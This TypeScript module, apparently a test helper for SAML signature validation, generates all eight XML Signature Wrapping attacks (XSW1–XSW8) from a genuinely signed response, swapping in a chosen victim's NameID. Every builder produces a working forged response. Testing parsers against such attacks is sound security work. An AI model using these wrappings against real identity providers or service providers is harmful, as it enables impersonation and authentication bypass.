/**
 * The eight classic signature wrappings (Somorovsky et al., "On Breaking SAML"), built out of a
 * response that was really signed.
 */

/** Which signature an attack moves: that of the response, or that of the assertion. */
export interface Wrapping {
  name: keyof typeof builders;
  of: "response" | "assertion";
}
export const wrappings: readonly Wrapping[] = [
  { name: "XSW1", of: "response" },
  { name: "XSW2", of: "response" },
  { name: "XSW3", of: "assertion" },
  { name: "XSW4", of: "assertion" },
  { name: "XSW5", of: "assertion" },
  { name: "XSW6", of: "assertion" },
  { name: "XSW7", of: "assertion" },
  { name: "XSW8", of: "assertion" },
];

/**
 * The signed part stays in the document, unchanged; beside or around it stands one that names
 * `victim`.
 */
export function wrapped(xml: string, { name, of }: Wrapping, victim: string): string {
  const assertion = found(/<saml:Assertion[\s\S]*<\/saml:Assertion>/, xml);
  const real = of === "response" ? xml : assertion;
  // The assertion of a signed response may have a signature of its own, further inside.
  const signature =
    of === "response"
      ? found(signaturePattern, xml.replace(assertion, ""))
      : found(signaturePattern, assertion);
  const evil = real
    .replace(/ ID="[^"]*"/, ' ID="_evil"')
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${victim}`);
  const bare = { real: real.replace(signature, ""), evil: evil.replace(signature, "") };
  return builders[name]({ xml, real, evil, bare, signature });
}

interface Parts {
  xml: string;
  real: string;
  evil: string;
  bare: { real: string; evil: string };
  signature: string;
}
const builders = {
  // The real response inside the signature of an evil one; beside it in the second.
  XSW1: ({ evil, bare, signature }: Parts) =>
    evil.replace(signature, intoEnd(signature, bare.real)),
  XSW2: ({ evil, bare, signature }: Parts) => evil.replace(signature, `${bare.real}${signature}`),
  // An evil assertion before the real one, and around it.
  XSW3: ({ xml, real, bare }: Parts) => xml.replace(real, `${bare.evil}${real}`),
  XSW4: ({ xml, real, bare }: Parts) => xml.replace(real, intoEnd(bare.evil, real)),
  // The evil one with the real signature; the real one at the end, inside the signature, in an
  // extension, in the signature's object.
  XSW5: ({ xml, real, evil, bare }: Parts) => intoEnd(xml.replace(real, evil), bare.real),
  XSW6: ({ xml, real, evil, bare, signature }: Parts) =>
    xml.replace(real, evil.replace(signature, intoEnd(signature, bare.real))),
  XSW7: ({ xml, real, bare }: Parts) =>
    xml.replace(real, `<samlp:Extensions>${bare.evil}</samlp:Extensions>${real}`),
  XSW8: ({ xml, real, evil, bare, signature }: Parts) =>
    xml.replace(
      real,
      evil.replace(signature, intoEnd(signature, `<ds:Object>${bare.real}</ds:Object>`)),
    ),
};

const signaturePattern = /<ds:Signature[ >][\s\S]*?<\/ds:Signature>/;
const intoEnd = (element: string, inner: string): string =>
  element.replace(/<\/[\w:]+>\s*$/, (end) => `${inner}${end}`);

function found(pattern: RegExp, text: string): string {
  const [first] = pattern.exec(text) ?? [];
  if (first === undefined) throw new Error(`${pattern.source} is not in the response`);
  return first;
}
